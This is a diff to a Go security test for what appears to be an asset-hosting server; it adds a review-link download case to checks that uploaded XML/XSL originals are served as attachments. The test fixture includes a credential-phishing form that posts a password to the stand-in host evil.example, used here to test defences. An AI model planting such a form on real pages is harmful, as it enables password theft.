@@ -36,7 +36,7 @@ func countChildren(t *testing.T, c *testkit.Client, id string) int {
 func TestOriginalsServedSafely(t *testing.T) {
 	s := start(t)
 	admin := s.Admin(t)
-	_, root := linkProject(t, admin, "Types")
+	projectID, root := linkProject(t, admin, "Types")
 	page := []byte(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><form action="https://evil.example/"><input name="password"/></form></body></html>`)
 	xsl := admin.Upload(root, "invoice.xsl", page, "filetype", "text/xsl")
 	evil := admin.Upload(root, "invoice.xml", page, "filetype", "application/x-evil+xml")
@@ -87,6 +87,13 @@ func TestOriginalsServedSafely(t *testing.T) {
 		check("share link original "+tc.typ, anon, "/api/v2/public/links/"+sl.Key+"/assets/"+tc.id+"/original", tc.typ, tc.disposition)
 	}
 	check("direct download", s.Client(t), "/d/"+dl.Key, "application/x-evil+xml", "attachment")
+	var rl struct {
+		ID  string `json:"id"`
+		Key string `json:"key"`
+	}
+	wantStatus(t, "review link", admin.Do("POST", "/api/v2/projects/"+projectID+"/review_links", map[string]any{"name": "Types", "enable_downloading": true}, &rl), 201, "")
+	wantStatus(t, "review items", admin.Do("POST", "/api/v2/review_links/"+rl.ID+"/assets", map[string]any{"asset_ids": []string{evil}}, nil), 200, "")
+	check("review link download", s.Client(t), "/api/v2/public/links/"+rl.Key+"/assets/"+evil+"/original?download=1", "application/x-evil+xml", "attachment")
 	waitReady(t, admin, img)
 	check("rendition", admin, "/api/v2/assets/"+img+"/proxies/thumb", "image/jpeg", "inline")
 
